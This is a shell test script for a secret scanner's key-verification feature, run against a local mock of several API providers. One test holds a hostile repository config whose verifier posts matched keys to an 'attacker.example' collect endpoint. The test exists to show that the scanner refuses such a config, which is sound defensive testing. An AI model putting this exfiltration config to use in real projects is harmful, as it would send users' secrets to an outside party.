#!/bin/sh
# t7001-verify.sh - `--verify` against a mock of every provider on 127.0.0.1
# (issue #7): live / invalid / out of quota / restricted / rate-limited then
# live / slow beyond the timeout / 500 / redirect; one request per distinct key
# however many places hold it; the admin-key endpoint; method, path and header
# form as each provider documents; no key in any URL or any output; marks in
# JSON, SARIF and text; --only-live; exit codes unchanged by failed checks.
# No test reaches the internet: every provider's base URL points at the mock,
# and any other https request goes to a dead local proxy.
. "$(dirname "$0")/test-lib.sh"

# shellcheck source=tests/e2e/verify-lib.sh
. "$TEST_DIR/verify-lib.sh"
start_mock mock --slow 5
use_mock mock

test_expect_success 'setup: the mock listens' '
	test -s "$TRASH/mock.port" && test "$(requests)" -eq 0
'

test_expect_success 'setup: OpenAI keys for every answer, one of them in three files' '
	mkdir -p repo/a repo/b repo/c &&
	live=$(key_for live openai-proj) &&
	for d in a b c; do printf "OPENAI_API_KEY=%s\n" "$live" >repo/$d/live.env; done &&
	for s in invalid quota ratelimit slow error restricted echo redirect; do
		printf "key = \"%s\"\n" "$(key_for $s openai-proj)" >repo/$s.py || exit 1
	done &&
	printf "OPENAI_ADMIN_KEY=%s\n" "$(key_for live openai-admin)" >repo/admin.env
'

test_expect_success '--verify marks every finding, one request per distinct key' '
	test_expect_code 1 kh dir repo --verify --verify-timeout 1 --format json -o r.json \
		--report sarif:r.sarif --report text:r.txt >out 2>err &&
	"$PYTHON" - r.json <<-\PY
	import json, sys
	d = json.load(open(sys.argv[1]))
	by = {}
	for f in d["findings"]:
	    by.setdefault(f["path"].split("/")[-1].split(".")[0], []).append(f)
	def one(name, verified, status, note=None, identity=None):
	    for f in by[name]:
	        got = (f["verified"], f["verify_status"], f["verify_note"], f["verify_identity"])
	        want = (verified, status, note, identity)
	        assert got == want, (name, got, want)
	org = "openai-organization=org-mockorg, openai-project=proj_mockproject"
	assert len(by["live"]) == 3
	one("live", "live", 200, None, org)
	one("invalid", "invalid", 401)
	one("quota", "live", 429, "valid but out of credit")
	one("ratelimit", "live", 200, None, org)
	one("restricted", "live", 403,
	    "key accepted, but this request was refused (restricted key)")
	one("slow", "unknown", None, "timed out")
	one("error", "unknown", 500, "server error")
	one("redirect", "unknown", 302, "redirect not followed")
	one("admin", "live", 200, None, "openai-organization=org-mockadmin")
	e = by["echo"][0]
	assert e["verified"] == "live", e
	assert e["verify_identity"] == "openai-organization=%s, openai-project=%s" % (
	    e["secret"], e["secret"]), e
	assert by["admin"][0]["rule"] == "openai-admin-key"
	PY
'

test_expect_success 'the mock saw the documented request form, each key once (retries aside)' '
	"$PYTHON" - "$TRASH/mock.log" <<-\PY
	import collections, json, sys
	log = [json.loads(l) for l in open(sys.argv[1])]
	for e in log:
	    assert e["form_ok"], e
	    assert not e["key_in_url"], e
	    assert e["user_agent"].startswith("keyhound/"), e
	n = collections.Counter((e["provider"], e["scenario"]) for e in log)
	want = {("openai", "live"): 1, ("openai", "invalid"): 1, ("openai", "quota"): 1,
	        ("openai", "ratelimit"): 2, ("openai", "slow"): 1, ("openai", "error"): 3,
	        ("openai", "restricted"): 1, ("openai", "echo"): 1, ("openai", "redirect"): 1,
	        ("openai-admin", "live"): 1}
	assert n == want, n
	admin = [e for e in log if e["provider"] == "openai-admin"][0]
	assert admin["path"] == "/v1/organization/admin_api_keys" and admin["query"] == "limit=1"
	models = [e for e in log if e["provider"] == "openai"]
	assert all(e["method"] == "GET" and e["path"] == "/v1/models" for e in models)
	PY
'

test_expect_success 'SARIF results carry the same marks' '
	"$PYTHON" - r.sarif r.json <<-\PY
	import json, sys
	s = json.load(open(sys.argv[1]))
	j = json.load(open(sys.argv[2]))
	want = {(f["path"], f["line"]): (f["verified"], f["verify_status"], f["verify_identity"])
	        for f in j["findings"]}
	got = {}
	for r in s["runs"][0]["results"]:
	    loc = r["locations"][0]["physicalLocation"]
	    p = r["properties"]
	    got[(loc["artifactLocation"]["uri"], loc["region"]["startLine"])] = (
	        p["verified"], p.get("verify_status"), p.get("verify_identity"))
	assert got == want, (got, want)
	PY
'

test_expect_success 'text report: a marker per secret, live ones first, a tally' '
	grep "\[live: openai-organization=org-mockorg, openai-project=proj_mockproject\]" r.txt &&
	grep "\[live: valid but out of credit\]" r.txt &&
	grep "\[invalid\]" r.txt &&
	grep "\[unknown: timed out\]" r.txt &&
	grep "\[unknown: server error, HTTP 500\]" r.txt &&
	grep "^keyhound: --verify: 6 live, 1 invalid, 3 unknown$" r.txt &&
	grep -E -o "\[(live|invalid|unknown)" r.txt | uniq >order &&
	printf "[live\n[unknown\n[invalid\n" >expect && test_cmp expect order
'

test_expect_success 'failed checks are warnings naming the rule and the redacted key' '
	slow=$(redacted_of "$(sed -n "s/^key = \"\(.*\)\"$/\1/p" repo/slow.py)") &&
	grep "^keyhound: warning: --verify: openai-project-key $slow: timed out; status unknown$" err &&
	grep -c "^keyhound: warning: --verify:" err >count && echo 3 >expect && test_cmp expect count &&
	! grep "^keyhound: error" err
'

test_expect_success 'no key in any output' '
	no_leak out err r.json r.sarif r.txt
'

test_expect_success 'git history and stdin: still one request per distinct key' '
	git init -q hist && live=$(sed -n "s/^OPENAI_API_KEY=//p" repo/a/live.env) &&
	(cd hist && for n in 1 2 3; do kh_commit "f$n.env" "KEY=$live" "add $n" || exit 1; done) &&
	before=$(requests) &&
	test_expect_code 1 kh git hist --verify --format json >hist.json &&
	json_check hist.json "len(d[\"findings\"]) == 3 and {f[\"verified\"] for f in d[\"findings\"]} == {\"live\"}" &&
	test "$(requests)" -eq $((before + 1)) &&
	printf "k=%s\n" "$live" >in.txt &&
	test_expect_code 1 "$KEYHOUND" stdin --verify --format json <in.txt >stdin.json &&
	test "$(requests)" -eq $((before + 2)) &&
	json_check stdin.json "d[\"findings\"][0][\"verified\"] == \"live\""
'

test_expect_success 'without --verify nothing is sent and "verified" is null' '
	before=$(requests) &&
	test_expect_code 1 kh dir repo --format json >plain.json &&
	json_check plain.json "all(f[\"verified\"] is None and f[\"verify_status\"] is None for f in d[\"findings\"])" &&
	test "$(requests)" -eq "$before"
'

test_expect_success '--only-live reports live keys, drops invalid ones, and fails closed on failed checks' '
	test_expect_code 2 kh dir repo --only-live --verify-timeout 1 --format json >live.json 2>live.err &&
	json_check live.json "len([f for f in d[\"findings\"] if f[\"verified\"] == \"live\"]) == 8" &&
	json_check live.json "all(f[\"verified\"] in (\"live\", \"unknown\") for f in d[\"findings\"])" &&
	json_check live.json "all(f[\"verify_note\"] != \"no verifier for this rule\" for f in d[\"findings\"])" &&
	grep -q "could not be checked" live.err &&
	mkdir dead && cp repo/invalid.py repo/slow.py repo/error.py dead/ &&
	test_expect_code 2 kh dir dead --only-live --verify-timeout 1 --format json >dead.json 2>/dev/null &&
	json_check dead.json "sorted(f[\"verified\"] for f in d[\"findings\"]) == [\"unknown\", \"unknown\"]" &&
	mkdir gone && cp repo/invalid.py gone/ &&
	test_expect_code 0 kh dir gone --only-live --verify-timeout 1 --format json >gone.json 2>/dev/null &&
	json_check gone.json "d[\"findings\"] == []"
'

test_expect_success 'failed checks never change the exit code' '
	test_expect_code 1 kh dir dead --verify --verify-timeout 1 --format json >dead2.json 2>dead2.err &&
	json_check dead2.json "sorted(f[\"verified\"] for f in d[\"findings\"]) == [\"invalid\", \"unknown\", \"unknown\"]" &&
	json_check dead2.json "d[\"stats\"][\"errors\"] == 0"
'

test_expect_success 'without libcurl, --verify warns, sends nothing and marks unknown' '
	before=$(requests) &&
	test_expect_code 1 env KEYHOUND_LIBCURL=/nonexistent/libcurl.so.4 \
		"$KEYHOUND" dir dead --verify --format json >nocurl.json 2>nocurl.err &&
	grep "^keyhound: warning: --verify: --verify needs libcurl 4 (KEYHOUND_LIBCURL)" nocurl.err &&
	json_check nocurl.json "all(f[\"verified\"] == \"unknown\" for f in d[\"findings\"])" &&
	test "$(requests)" -eq "$before" &&
	test_expect_code 1 kh dir dead --format json >/dev/null
'

test_expect_success 'without libcurl, --only-live reports the keys it could not check and fails closed' '
	before=$(requests) &&
	test_expect_code 2 env KEYHOUND_LIBCURL=/nonexistent/libcurl.so.4 \
		"$KEYHOUND" dir dead --only-live --format json >nocurl-live.json 2>nocurl-live.err &&
	json_check nocurl-live.json "len(d[\"findings\"]) == 3" &&
	json_check nocurl-live.json "all(f[\"verified\"] == \"unknown\" and f[\"verify_note\"] == \"not checked: --verify could not start\" for f in d[\"findings\"])" &&
	! grep "has no verifier" nocurl-live.err &&
	test "$(requests)" -eq "$before"
'

test_expect_success 'plain http to a non-loopback host is refused; localhost is fine' '
	before=$(requests) &&
	mkdir one && cp repo/invalid.py one/ &&
	test_expect_code 1 env KEYHOUND_OPENAI_BASE_URL=http://192.0.2.1:9/openai \
		"$KEYHOUND" dir one --verify --format json >far.json 2>far.err &&
	json_check far.json "[(f[\"verified\"], f[\"verify_note\"]) for f in d[\"findings\"]] == [(\"unknown\", \"base URL refused\")]" &&
	grep "^keyhound: warning: --verify: KEYHOUND_OPENAI_BASE_URL: plain http is allowed only to a loopback address" far.err &&
	! grep "192.0.2.1" far.err &&
	test_expect_code 1 env KEYHOUND_OPENAI_BASE_URL=ftp://127.0.0.1/openai \
		"$KEYHOUND" dir one --verify --format json >ftp.json 2>/dev/null &&
	json_check ftp.json "d[\"findings\"][0][\"verified\"] == \"unknown\"" &&
	test "$(requests)" -eq "$before" &&
	test_expect_code 1 env KEYHOUND_OPENAI_BASE_URL=http://localhost:${MOCK##*:}/openai \
		"$KEYHOUND" dir one --verify --format json >near.json &&
	json_check near.json "d[\"findings\"][0][\"verified\"] == \"invalid\""
'

test_expect_success 'the default base URL is https (here: a dead proxy, so unknown, never sent in clear)' '
	before=$(requests) &&
	(unset KEYHOUND_OPENAI_BASE_URL && exec "$KEYHOUND" dir one --verify --verify-timeout 2 \
		--format json >def.json 2>def.err)
	test $? -eq 1 &&
	grep "^keyhound: warning: --verify: openai-project-key .*: could not connect; status unknown$" def.err &&
	json_check def.json "d[\"findings\"][0][\"verified\"] == \"unknown\"" &&
	test "$(requests)" -eq "$before"
'

test_expect_success 'a repository config can never add a verifier' '
	before=$(requests) &&
	mkdir evil && cp repo/invalid.py evil/ &&
	cat >evil/.keyhound.yaml <<-EOF &&
	rules:
	  - id: evil-exfil
	    pattern: "(sk-proj-[A-Za-z0-9_-]+)"
	    secret_group: 1
	    keywords: [sk-proj-]
	    verify:
	      provider: openai
	      base_url: https://attacker.example
	      path: /collect
	      headers: ["X-Key: {{secret}}"]
	      live_status: ["200"]
	EOF
	test_expect_code 2 kh dir evil --verify >evil.out 2>evil.err &&
	grep "verifiers can only come from the built-in rules" evil.err &&
	test_expect_code 2 kh dir one --verify --config evil/.keyhound.yaml >/dev/null 2>evil2.err &&
	grep "verifiers can only come from the built-in rules" evil2.err &&
	# the repository config is refused and the scan goes on with the built-in
	# rules (exit 2): their own verifier may ask the key'"'"'s provider, nothing else
	tail -n +$((before + 1)) "$TRASH/mock.log" >evil.log &&
	! grep -q "collect" evil.log &&
	! grep -qi "x-key" evil.log &&
	"$PYTHON" -c "import json,sys; assert all(json.loads(l)[\"path\"] == \"/v1/models\" for l in open(sys.argv[1]))" evil.log
'

test_expect_success 'a repository config replacing a built-in rule loses its verifier' '
	before=$(requests) &&
	mkdir shadow && cp repo/invalid.py shadow/ &&
	cat >shadow/.keyhound.yaml <<-\EOF &&
	rules:
	  - id: openai-project-key
	    severity: critical
	    pattern: "(sk-proj-[A-Za-z0-9_-]{16,160}T3BlbkFJ[A-Za-z0-9_-]{16,160})"
	    secret_group: 1
	    keywords: [T3BlbkFJ]
	EOF
	test_expect_code 1 kh dir shadow --verify --format json >shadow.json 2>shadow.err &&
	json_check shadow.json "[(f[\"verified\"], f[\"verify_note\"]) for f in d[\"findings\"]] == [(\"unknown\", \"no verifier for this rule\")]" &&
	grep "rule openai-project-key has no verifier" shadow.err &&
	test "$(requests)" -eq "$before"
'

test_expect_success 'setup: a live and an invalid key of every other provider' '
	mkdir prov &&
	for p in anthropic anthropic-admin github gitlab slack stripe huggingface; do
		printf "TOKEN=%s\n" "$(key_for live $p)" >prov/$p-live.txt &&
		printf "TOKEN=%s\n" "$(key_for invalid $p)" >prov/$p-invalid.txt || exit 1
	done &&
	printf "SLACK_WEBHOOK=%s\n" "$(key_for live slack-webhook)" >prov/slackhook-live.txt &&
	: >"$TRASH/mock.log" &&
	kh dir prov --verify --format json >prov.json 2>prov.err
	test $? -le 1 && no_leak prov.json prov.err
'

# check_provider NAME IDENTITY: the live key is live with IDENTITY, the invalid one invalid,
# each sent once in the documented form (NAME as the mock logs it)
check_provider() {
	if ! json_check prov.json "any(f[\"path\"] == \"$1-live.txt\" for f in d[\"findings\"])" 2>/dev/null; then
		test_skip "$1: live and invalid keys verified" "no built-in rule finds its keys yet"
		return
	fi
	test_expect_success "$1: live and invalid keys verified in the documented form" "
		json_check prov.json '[(f[\"verified\"], f[\"verify_identity\"]) for f in d[\"findings\"] if f[\"path\"] == \"$1-live.txt\"] == [(\"live\", \"$2\")]' &&
		json_check prov.json '[f[\"verified\"] for f in d[\"findings\"] if f[\"path\"] == \"$1-invalid.txt\"] == [\"invalid\"]' &&
		\"\$PYTHON\" -c '
import json, sys
log = [json.loads(l) for l in open(sys.argv[1]) if json.loads(l)[\"provider\"] == \"$1\"]
assert sorted(e[\"scenario\"] for e in log) == [\"invalid\", \"live\"], log
assert all(e[\"form_ok\"] and not e[\"key_in_url\"] for e in log), log' \"\$TRASH/mock.log\"
	"
}

check_provider anthropic "anthropic-organization-id=mock-anthropic-org"
check_provider anthropic-admin "id=mock-org-uuid, name=Mock Org"
check_provider github "login=octo-mock"
check_provider gitlab "username=gl-mock"
check_provider slack "team=Mock Team, user=mockbot"
check_provider stripe "id=acct_mock"
check_provider huggingface "name=hf-mock"

test_expect_success 'Slack webhooks cannot be checked read-only: unknown, nothing sent' '
	if json_check prov.json "any(f[\"path\"] == \"slackhook-live.txt\" for f in d[\"findings\"])" 2>/dev/null; then
		json_check prov.json "[(f[\"verified\"], f[\"verify_note\"]) for f in d[\"findings\"] if f[\"path\"] == \"slackhook-live.txt\"] == [(\"unknown\", \"no verifier for this rule\")]" &&
		! grep "\"slack-webhook\"\|hooks" "$TRASH/mock.log"
	fi
'

test_done
